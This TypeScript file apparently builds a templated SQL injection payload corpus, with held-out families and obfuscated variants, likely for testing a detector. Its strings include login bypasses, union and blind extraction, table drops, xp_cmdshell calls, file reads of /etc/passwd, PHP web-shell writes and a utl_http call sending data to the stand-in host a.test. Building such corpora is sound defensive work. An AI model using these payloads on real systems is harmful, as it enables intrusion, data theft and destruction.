import { combine, commented, entities, family, fullWidth, held, mixedCase, percent, spread, zeroWidth, type Family } from './corpus.js';

const numbers = ['1', '7', '-8812', '4021', '105'];
const closings = ["'", "')", "'))", '"', '")', ')', '', '%\'', "' "];
const cuts = ['--', '-- ', '#', '-- -', '/*', ''];

const tautologies = combine(
  ["{0}' or '{1}'='{1}", "{0}' or 1=1{2}", '{0}" or "{1}"="{1}', "{0}') or ('{1}'='{1}", "{0}' or {1}={1}{2}", '{0} or 1=1{2}', "{0}' or ''='", '{0}" or ""="', "{0}' || '{1}'='{1}", "{0}' and '{1}'='b{1}", '{0}) or ({1}={1}{2}', "{0}' or true{2}", "{0}'or'{1}'like'{1}"],
  ['', '1', 'admin', 'x', 'anything', 'bob@mail.test', '-1'],
  ['a', '3', 'qq', '77'],
  cuts,
);

const bare = combine(
  ['or {0}={0}', 'or {0}={0}{1}', "or '{0}'='{0}'{1}", 'or "{0}"="{0}"', 'and {0}=2{1}', ' or {0} like {0}', "') or ('{0}'='{0}", '" or {0}={0}{1}', "' or {0} in ({0}){1}", "' or {0} between 1 and 9{1}", 'or not {0}=0{1}', "hi' or {0}={0}{1}", "' having {0}={0}{1}", '{0} having {0}={0}', "' or {0} is not null{1}", "x' or uname like '%{0}%", "' or login is not null or login = '", '|| {0}={0}', "'||{0}={0}{1}", "' && {0}={0}{1}", "' xor {0}={0}{1}"],
  ['1', '0', '23', 'x'],
  cuts,
);

const unions = combine(
  ['{0}{1} union select {2}{3}', '{0}{1} union all select {2}{3}', '{0}{1} UNION DISTINCT SELECT {2}{3}', '{0}{1} /*!50000union*/ /*!50000select*/ {2}{3}', '{0}{1}+union+select+{2}{3}', '{0}{1}union(select({2}){3}'],
  numbers, closings, ['1,2,3', 'null,null', '@@version', 'user(),2', "'a',null,database()", 'table_name,2 from information_schema.tables', 'login,passwd from accounts'], ['--', '#', '-- k', '', ' limit 1,1--'],
);

const timed = combine(
  ['{0}{1} and sleep({2}){3}', '{0}{1} or sleep({2})=0{3}', '{0}{1};waitfor delay \'0:0:{2}\'{3}', "{0}{1} waitfor delay '00:00:0{2}'{3}", '{0}{1};select pg_sleep({2}){3}', '{0}{1}||pg_sleep({2}){3}', '{0}{1} and benchmark({2}00000,md5(0x61)){3}', "{0}{1} or (select 41 from (select(sleep({2})))qz){3}", '{0}{1}) and 4412=dbms_pipe.receive_message(chr(71)||chr(88),{2}){3}', "{0}{1} and 611=(select count(*) from sysusers as a,sysusers as b,sysusers as c){3}", "{0}{1} and 902=like('abc',upper(hex(randomblob({2}00000000/2)))){3}", "{0}{1} rlike (select 9 from (select sleep({2}))a){3}", '{0}{1};call regexp_substring(repeat(right(char(7721),0),{2}00000000),null){3}', '{0}{1};select count(*) from generate_series(1,{2}000000){3}', '{0}{1}+(select*from(select(sleep({2})))a)+{3}', "if(now()=sysdate(),sleep({2}),0)/*'xor(if(now()=sysdate(),sleep({2}),0))or'{3}", '{0}{1} or user_lock.sleep({2}){3}'],
  ['1', '-34'], closings, ['5', '9'], ['--', '#', '', " and '1'='1"],
);

const errors = combine(
  [
    '{0}{1} and (select 71 from(select count(*),concat(0x7176,(select (elt(71=71,1))),0x71,floor(rand(0)*2))x from information_schema.plugins group by x)a){2}', '{0}{1} and extractvalue({3},concat(0x5c,0x71,(select version()))){2}', '{0}{1} or updatexml(1,concat(0x7e,(select user())),1){2}',
    '{0}{1} procedure analyse(extractvalue({3},concat(0x5c,md5(1))),1){2}', "{0}{1} and {3}=ctxsys.drithsx.sn({3},(chr(113)||chr(98))){2}", "{0}{1} and {3}=(select upper(xmltype(chr(60)||chr(58)||(select 1 from dual))) from dual){2}", "{0}{1} or {3}=utl_inaddr.get_host_address(chr(113)||chr(107)){2}",
    '{0}{1} and {3}=convert(int,(select char(113)+char(98)+@@version)){2}', "{0}{1} and {3}=cast((chr(113)||chr(98))||(select {3})::text as numeric){2}", '{0}{1} and elt({3}={3},{3}){2}', '{0}{1} or make_set({3}={3},{3}){2}', '{0}{1} and json_keys((select convert((select concat(0x71,user())) using utf8))){2}', '{0}{1} rlike (select (case when ({3}={3}) then 1 else 0x28 end)){2}',
    '{0}{1} and exp(~(select * from (select user())a)){2}', '{0}{1} and gtid_subset(concat(0x71,(select 1)),{3}){2}', '{0}{1} and polygon((select * from(select * from(select user())a)b)){2}', '{0}{1} and {3} in (select (char(113)+char(106))){2}', '{0}{1} (select (case when ({3}={3}) then {3} else {3}*(select {3} from information_schema.character_sets) end)){2}', '{0}{1}) as qv where {3}={3}{2}', '{0}{1} where {3}={3} and 41=42{2}', "{0}{1} order by {3}{2}", '{0}{1} group by 1,2 having 1=1{2}', 'iif({3}={3},1,1/0)', "if({3}={3}) select {3} else drop function zk{2}", "case when {3}={3} then 1 else null end",
  ],
  ['1', '-6610'], closings, ['--', '#', '', " and 'k'='k"], ['9', '5120'],
);

const stacked = combine(
  ["{0}; {1}{2}", "{0}'; {1}{2}", "{0}'); {1}{2}", "{0}';{1}{2}"],
  ['1', 'x', ''],
  ['drop table accounts', 'delete from logs', "insert into staff values (1,'a')", "update users set pw='x'", 'exec master..xp_cmdshell \'dir\'', 'shutdown with nowait', 'truncate table audit', "exec sp_addlogin 'eve'", "declare @q varchar(99) select @q = 0x77616974 exec(@q)", 'alter table t drop column c', 'create table z(a int)', "grant all on x to y", "begin declare @r varchar(8000) set @r='' end"],
  ['--', '', ';', '#'],
);

const logins = combine(
  ["{0}' --", "{0}'--", "{0}' #", "{0}'#", "{0}'/*", "{0}')--", "{0}') #", '{0}" --', '{0}"#', '{0}"/*', "{0}' or 1=1 limit 1 --", "{0}'))--", '{0}")-- -', "{0}' or 'z", "{0}';--", "{0}\\' --"],
  ['admin', 'root', 'administrator', 'jsmith', '1', 'user@x.test', ''],
);

const blind = combine(
  ["{0}' and substring(version(),1,1)='5{1}", "{0}' and ascii(substr((select user()),1,1))>64{1}", '{0} and (select count(*) from users)>0{1}', "{0}' and exists(select * from members){1}", "{0}' and (select top 1 name from sysobjects)>'a{1}", '{0} and ord(mid((select database()),1,1))<100{1}', "{0}' and 1=(select count(*) from tabname); {1}", "{0}' and if(length(database())=4,1,0){1}", "{0}'||(select case when (1=1) then to_char(1/0) else '' end from dual)||'", "{0}' and (select 'a' from users limit 1)='a", "{0}' and pwd regexp '^a", '{0} and user_name() = \'dbo\'{1}', "{0}' and members.email is null; {1}", '{0} and row(1,1)>(select count(*),1){1}', "{0} and length((select pw from users where id=1))=8{1}"],
  ['1', 'x', '17'], ['--', '#', ''],
);

const statements = combine(
  ["select * from users where id = '1' or 1=1{0}", "select * from users where name = '{1}' or '1'='1'{0}", 'select * from users where id = 1 or 5=5{0}', "select * from users where id = 1 union select 1,version(){0}", "select * from users where id = '1' union select 1,@@version{0} '", "select * from t where id = 1 or \"%{\" or 1 = 1 {0}", "select * from users where id = '1' or @ @1 = 1 union select 1,version ( ) {0} 1'", "select pass from admins where login = '{1}' and 1=0 union select null,null{0}", 'select * from users where id = 1 ; drop table users{0}', "select name from syscolumns where id = (select id from sysobjects where name = '{1}'){0}", "SELECT * FROM members WHERE user = 'admin'--' AND pw = '{1}'", 'select sleep ( 5 ) {0}', "select * from users where id = 1 or sleep(5){0}", "select case when 71=71 then 1 else 2 end{0}"],
  [' -- 1', '--', '', '#'], ['x', 'bob'],
);

const fuzz = ["'", '"', "' --", "'#", "' ;", "')", "'))", '";', "'--", "''--", "'/*", '"#', "';", "'\"", "') --", '%27', '%22', "%27--", "%27%20--", "'='", "'-'", "'&'", "'*'", "'||'", "'+'", "\\'", "1'", '1"', "1')", "a'", "1' --", '/**/', "' or", "' and", "'or", '" or', "' or ''-'", "' or ''*'", "' or ''^'", '%27%23', "'%20#", "0'#", "1;--", "1--", "1/*", "'like'", "''='", '""="', "'; --", "1'#", "x'--", '`', '1`', "'`\"", "\\\"", "1'\"", "'),--"];

const polyglots = [
  "SLEEP(3)/*' or SLEEP(3) or '\" or SLEEP(3) or \"*/", "'+(select load_file('/etc/hosts'))+'", "' into outfile '/var/www/a.php'--", "1' union select 0x3c3f,2 into dumpfile 'c:/a.php'#", "1;select load_file(0x2f6574632f706173737764)", "'+or+7=7--", '1%27%20or%20%271%27=%271', '1%2527%2520or%25201=1--', "%27%20or%20%27x%27=%27x", '-1%20union%20select%201,2', "'/**/or/**/1/**/=/**/1", "1'/*!or*/1=1#", "uni/**/on sel/**/ect 1,2", "'%0aor%0a1=1--", "' oR\t1=1\n--", "1' aNd 1=0 uNiOn SeLeCt 1,2#", "'/*!50000or*/1=1", "';exec('sel'+'ect 1')--", "'||utl_http.request('http://a.test/'||(select user from dual))||'", "1 and 1=(select 1 from openrowset('sqloledb','a','b'))", "' or 1=1 into @a--", "1 or 1 -- -", "1'='1", "' or 1 --", "'=0#", "1 in (select 1)", "' or 1 in (select @@version)--", "1 or 0x31=0x31", "' group by password having 1=1--", "1 limit 0,1 into outfile '/tmp/a'", "@@version", "1,@@datadir", "bulk insert t from 'c:/a.txt'", "char(39)+char(97)+char(39)", "0x27206f7220313d31", "'; copy (select '') to program 'id'--", "1 procedure analyse()", "' or username='admin", "x' where 1=1--", "1 where 3=3", "(select 9 from dual)", "desc users; select 1--", "') and 1=1 and ('a'='a",
];

const disguise = (texts: readonly string[]): string[] => [percent, fullWidth, mixedCase, commented, zeroWidth, entities, (text: string) => percent(percent(text))].flatMap((how, at) => spread(texts, 22 + at).map(how));

/** Payloads of the well-known kinds, written as templates. */
export const sqlAttacks: readonly Family[] = [
  family('tautology', spread(tautologies, 260)), family('bare', spread(bare, 200)), family('union', spread(unions, 260)), held('time', spread(timed, 260)), family('error', spread(errors, 300)),
  family('stacked', spread(stacked, 130)), family('login', logins), held('blind', blind), family('statement', spread(statements, 60)), family('fuzz', fuzz), held('polyglot', polyglots),
  family('disguised', disguise([...spread(tautologies, 60), ...spread(unions, 60)])), held('disguised blind', disguise(blind)),
];
